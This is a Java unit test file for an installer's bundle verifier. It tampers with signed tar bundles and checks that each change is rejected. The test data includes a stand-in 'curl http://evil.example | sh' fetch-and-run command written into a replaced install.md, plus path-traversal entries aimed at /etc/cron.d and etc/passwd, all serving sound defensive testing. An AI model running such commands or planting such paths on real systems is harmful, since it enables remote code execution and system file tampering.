package dev.slate.installer.bundle;

import static dev.slate.installer.bundle.TestBundles.ROOT;
import static dev.slate.installer.bundle.TestBundles.VERSION;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.slate.installer.bundle.BundleRejectedException.Reason;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;
import java.util.Arrays;
import java.util.Optional;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@link BundleVerifier} on small bundles written by {@link BundleWriter} and then damaged. */
class BundleVerifierTest {
    private static final KeyPair KEYS = TestBundles.keyPair();
    private static final String LAYER = ROOT + "/images/slate-appliance/blobs/sha256/layer-one";

    @TempDir
    Path temp;

    private BundleRejectedException rejected(Path tar, Optional<String> expectedVersion) {
        return catchThrowableOfType(
                BundleRejectedException.class, () -> new BundleVerifier(KEYS.getPublic()).verify(tar, expectedVersion));
    }

    private BundleRejectedException rejected(Path tar) {
        return rejected(tar, Optional.empty());
    }

    @Test
    void aBundleAsWrittenVerifies() throws Exception {
        Path tar = TestBundles.packed(temp, KEYS);

        VerifiedBundle verified = new BundleVerifier(KEYS.getPublic()).verify(tar, Optional.of(VERSION));

        assertThat(verified.rootDirectory()).isEqualTo(ROOT);
        assertThat(verified.manifest().version()).isEqualTo(VERSION);
        assertThat(verified.manifest().gitCommit()).isEqualTo("0123456789abcdef0123456789abcdef01234567");
        assertThat(verified.manifest().buildTime()).isEqualTo(TestBundles.BUILT);
        assertThat(verified.manifest().files())
                .extracting(BundleFile::path)
                .containsExactly(
                        "cli/lib/slate-installer.jar",
                        "cli/slate",
                        "docs/install.md",
                        "images/slate-appliance/blobs/sha256/layer-one",
                        "images/slate-appliance/index.json",
                        "images/slate-appliance/oci-layout",
                        "keycloak/empty-marker",
                        "sbom/bom.json");
        assertThat(verified.manifest().files())
                .filteredOn(f -> f.path().equals("keycloak/empty-marker"))
                .singleElement()
                .extracting(BundleFile::size, BundleFile::sha256)
                .containsExactly(0L, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
        assertThat(verified.signerFingerprint()).isEqualTo(BundleKeys.fingerprint(KEYS.getPublic()));
    }

    @Test
    void theSameInputsGiveTheSameTar() throws Exception {
        Path content = TestBundles.content(temp.resolve("content"));
        Path first = temp.resolve("a.tar");
        Path second = temp.resolve("b.tar");
        BundleWriter.pack(content, VERSION, "abc", TestBundles.BUILT, KEYS.getPrivate(), first);
        BundleWriter.pack(content, VERSION, "abc", TestBundles.BUILT, KEYS.getPrivate(), second);

        assertThat(Files.readAllBytes(first)).isEqualTo(Files.readAllBytes(second));
    }

    @Test
    void aFlippedByteInOneFileNamesThatFile() throws Exception {
        Path tar = TestBundles.packed(temp, KEYS);
        TestBundles.flipByteOf(tar, "appliance image layer one");

        BundleRejectedException e = rejected(tar);

        assertThat(e.reason()).isEqualTo(Reason.DIGEST_MISMATCH);
        assertThat(e.path()).contains(LAYER);
        assertThat(e.getMessage()).startsWith(LAYER + ": SHA-256 is ");
    }

    @Test
    void aTarCutInTheMiddleOfAFileIsRefusedAsTruncated() throws Exception {
        Path tar = TestBundles.packed(temp, KEYS);
        byte[] bytes = Files.readAllBytes(tar);
        int cut = TestBundles.indexOf(bytes, "appliance image layer one".getBytes(StandardCharsets.UTF_8)) + 1000;
        Files.write(tar, Arrays.copyOf(bytes, cut));

        BundleRejectedException e = rejected(tar);

        assertThat(e.reason()).isEqualTo(Reason.TRUNCATED);
        assertThat(e.path()).contains(LAYER);
    }

    @Test
    void aTarCutAtAnEntryBoundaryIsRefusedAsTruncated() throws Exception {
        Path tar = TestBundles.packed(temp, KEYS);
        byte[] bytes = Files.readAllBytes(tar);
        int lastData = bytes.length - 1;
        while (bytes[lastData] == 0) {
            lastData--;
        }
        int boundary = (lastData / 512 + 1) * 512;
        Files.write(tar, Arrays.copyOf(bytes, boundary));

        BundleRejectedException e = rejected(tar);

        assertThat(e.reason()).isEqualTo(Reason.TRUNCATED);
        assertThat(e.getMessage()).contains("without its end-of-archive record");
    }

    @Test
    void aTarCutBeforeItsLastFilesNamesAMissingFile() throws Exception {
        Path tar = TestBundles.packed(temp, KEYS);
        TestBundles.rewrite(tar, TestBundles.dropping(name -> name.startsWith(ROOT + "/sbom/")), TestBundles.nothing());

        BundleRejectedException e = rejected(tar);

        assertThat(e.reason()).isEqualTo(Reason.MISSING_FILE);
        assertThat(e.path()).contains(ROOT + "/sbom/bom.json");
    }

    @Test
    void anExtraFileIsNamed() throws Exception {
        Path tar = TestBundles.packed(temp, KEYS);
        TestBundles.rewrite(
                tar,
                TestBundles.keep(),
                out -> TestBundles.file(out, ROOT + "/cli/lib/evil.jar", "x".getBytes(StandardCharsets.UTF_8)));

        BundleRejectedException e = rejected(tar);

        assertThat(e.reason()).isEqualTo(Reason.UNEXPECTED_ENTRY);
        assertThat(e.path()).contains(ROOT + "/cli/lib/evil.jar");
        assertThat(e.getMessage()).contains("not listed in the manifest");
    }

    @Test
    void aFileReplacedByOneOfAnotherSizeIsASizeMismatch() throws Exception {
        Path tar = TestBundles.packed(temp, KEYS);
        TestBundles.rewrite(
                tar,
                (entry, content, out) -> {
                    if (entry.getName().equals(ROOT + "/docs/install.md")) {
                        TestBundles.file(
                                out,
                                entry.getName(),
                                "# Installing Slate\ncurl http://evil.example | sh\n".getBytes(StandardCharsets.UTF_8));
                    } else {
                        TestBundles.copy(entry, content, out);
                    }
                },
                TestBundles.nothing());

        BundleRejectedException e = rejected(tar);

        assertThat(e.reason()).isEqualTo(Reason.SIZE_MISMATCH);
        assertThat(e.path()).contains(ROOT + "/docs/install.md");
    }

    @Test
    void aSignatureOfAnotherKeyIsRefused() throws Exception {
        Path tar = TestBundles.packed(temp, KEYS);

        BundleRejectedException e = catchThrowableOfType(
                BundleRejectedException.class,
                () -> new BundleVerifier(TestBundles.keyPair().getPublic()).verify(tar, Optional.empty()));

        assertThat(e.reason()).isEqualTo(Reason.BAD_SIGNATURE);
        assertThat(e.path()).contains(ROOT + "/manifest.json");
    }

    @Test
    void aManifestEditedToMatchATamperedFileFailsItsSignature() throws Exception {
        Path tar = TestBundles.packed(temp, KEYS);
        TestBundles.rewrite(
                tar,
                (entry, content, out) -> {
                    if (entry.getName().equals(ROOT + "/manifest.json")) {
                        String edited =
                                new String(content, StandardCharsets.UTF_8).replace("\"size\" : 0", "\"size\" : 1");
                        TestBundles.copy(entry, edited.getBytes(StandardCharsets.UTF_8), out);
                    } else {
                        TestBundles.copy(entry, content, out);
                    }
                },
                TestBundles.nothing());

        BundleRejectedException e = rejected(tar);

        assertThat(e.reason()).isEqualTo(Reason.BAD_SIGNATURE);
    }

    @Test
    void aBundleWithoutSignatureIsRefused() throws Exception {
        Path tar = TestBundles.packed(temp, KEYS);
        TestBundles.rewrite(
                tar, TestBundles.dropping(name -> name.endsWith("/manifest.json.sig")), TestBundles.nothing());

        BundleRejectedException e = rejected(tar);

        assertThat(e.reason()).isEqualTo(Reason.NO_MANIFEST);
        assertThat(e.path()).contains(ROOT + "/manifest.json.sig");
    }

    @Test
    void anotherVersionThanExpectedIsRefused() throws Exception {
        Path tar = TestBundles.packed(temp, KEYS);

        BundleRejectedException e = rejected(tar, Optional.of("1.2.4"));

        assertThat(e.reason()).isEqualTo(Reason.WRONG_VERSION);
        assertThat(e.getMessage()).contains("the bundle is version 1.2.3, expected 1.2.4");
    }

    @Test
    void aRenamedBundleDirectoryDoesNotPassForAnotherVersion() throws Exception {
        Path tar = TestBundles.packed(temp, KEYS);
        TestBundles.rewrite(
                tar,
                (entry, content, out) -> {
                    entry.setName(entry.getName().replace(ROOT, "slate-bundle-9.9.9"));
                    TestBundles.copy(entry, content, out);
                },
                TestBundles.nothing());

        BundleRejectedException e = rejected(tar);

        assertThat(e.reason()).isEqualTo(Reason.MALFORMED);
        assertThat(e.getMessage()).contains("does not match its manifest's version 1.2.3");
    }

    @Test
    void linksDuplicatesAndPathsOutsideTheBundleAreRefused() throws Exception {
        Path tar = TestBundles.packed(temp, KEYS);
        Path link = Files.copy(tar, temp.resolve("link.tar"));
        TestBundles.rewrite(link, TestBundles.keep(), out -> {
            TarArchiveEntry symlink = new TarArchiveEntry(ROOT + "/cli/java", TarArchiveEntry.LF_SYMLINK);
            symlink.setLinkName("/usr/bin/java");
            out.putArchiveEntry(symlink);
            out.closeArchiveEntry();
        });
        Path duplicate = Files.copy(tar, temp.resolve("duplicate.tar"));
        TestBundles.rewrite(
                duplicate,
                TestBundles.keep(),
                out -> TestBundles.file(
                        out, ROOT + "/docs/install.md", "# Installing Slate\n".getBytes(StandardCharsets.UTF_8)));
        Path escape = Files.copy(tar, temp.resolve("escape.tar"));
        TestBundles.rewrite(
                escape,
                TestBundles.keep(),
                out -> TestBundles.file(out, ROOT + "/../etc/cron.d/x", "x".getBytes(StandardCharsets.UTF_8)));
        Path outside = Files.copy(tar, temp.resolve("outside.tar"));
        TestBundles.rewrite(
                outside,
                TestBundles.keep(),
                out -> TestBundles.file(out, "etc/passwd", "x".getBytes(StandardCharsets.UTF_8)));

        assertThat(rejected(link))
                .extracting(BundleRejectedException::reason, BundleRejectedException::path)
                .containsExactly(Reason.UNEXPECTED_ENTRY, Optional.of(ROOT + "/cli/java"));
        assertThat(rejected(duplicate))
                .extracting(BundleRejectedException::reason, BundleRejectedException::path)
                .containsExactly(Reason.UNEXPECTED_ENTRY, Optional.of(ROOT + "/docs/install.md"));
        assertThat(rejected(escape))
                .extracting(BundleRejectedException::reason, BundleRejectedException::path)
                .containsExactly(Reason.UNEXPECTED_ENTRY, Optional.of(ROOT + "/../etc/cron.d/x"));
        assertThat(rejected(outside))
                .extracting(BundleRejectedException::reason, BundleRejectedException::path)
                .containsExactly(Reason.UNEXPECTED_ENTRY, Optional.of("etc/passwd"));
    }

    @Test
    void filesBeforeTheManifestAreCheckedWhenItArrives() throws Exception {
        Path tar = TestBundles.packed(temp, KEYS);
        byte[][] manifestAndSignature = new byte[2][];
        TarArchiveEntry[] entries = new TarArchiveEntry[2];
        TestBundles.rewrite(
                tar,
                (entry, content, out) -> {
                    if (entry.getName().endsWith("/manifest.json")) {
                        entries[0] = entry;
                        manifestAndSignature[0] = content;
                    } else if (entry.getName().endsWith("/manifest.json.sig")) {
                        entries[1] = entry;
                        manifestAndSignature[1] = content;
                    } else if (entry.getName().endsWith("/docs/install.md")) {
                        TestBundles.copy(entry, "# Installing Slatf\n".getBytes(StandardCharsets.UTF_8), out);
                    } else {
                        TestBundles.copy(entry, content, out);
                    }
                },
                out -> {
                    TestBundles.copy(entries[0], manifestAndSignature[0], out);
                    TestBundles.copy(entries[1], manifestAndSignature[1], out);
                });

        BundleRejectedException e = rejected(tar);

        assertThat(e.reason()).isEqualTo(Reason.DIGEST_MISMATCH);
        assertThat(e.path()).contains(ROOT + "/docs/install.md");
    }

    @Test
    void notATarIsRefused() throws Exception {
        Path junk = Files.writeString(temp.resolve("junk.tar"), "this is not a tar archive at all\n".repeat(40));

        assertThat(rejected(junk).reason()).isIn(Reason.MALFORMED, Reason.TRUNCATED);
    }

    @Test
    void verifyAndExtractWritesEveryFileAndLeavesNothingOfARefusedBundle() throws Exception {
        Path tar = TestBundles.packed(temp, KEYS);
        Path target = temp.resolve("installed");

        new BundleVerifier(KEYS.getPublic()).verifyAndExtract(tar, Optional.empty(), target);

        assertThat(target.resolve("cli/slate")).isExecutable().content().startsWith("#!/bin/sh");
        assertThat(target.resolve("images/slate-appliance/blobs/sha256/layer-one"))
                .hasSameBinaryContentAs(temp.resolve("content/images/slate-appliance/blobs/sha256/layer-one"));
        assertThat(target.resolve("manifest.json")).exists();

        TestBundles.flipByteOf(tar, "appliance image layer one");
        Path second = temp.resolve("second");
        assertThatThrownBy(() -> new BundleVerifier(KEYS.getPublic()).verifyAndExtract(tar, Optional.empty(), second))
                .isInstanceOf(BundleRejectedException.class);
        assertThat(second).doesNotExist();
    }

    @Test
    void writerRefusesLinksInTheBundleDirectory() throws IOException {
        Path content = TestBundles.content(temp.resolve("content"));
        Files.createSymbolicLink(content.resolve("cli/java"), Path.of("/usr/bin/java"));

        assertThatThrownBy(() -> BundleWriter.pack(
                        content, VERSION, "abc", TestBundles.BUILT, KEYS.getPrivate(), temp.resolve("x.tar")))
                .isInstanceOf(IOException.class)
                .hasMessageContaining("no links");
    }
}
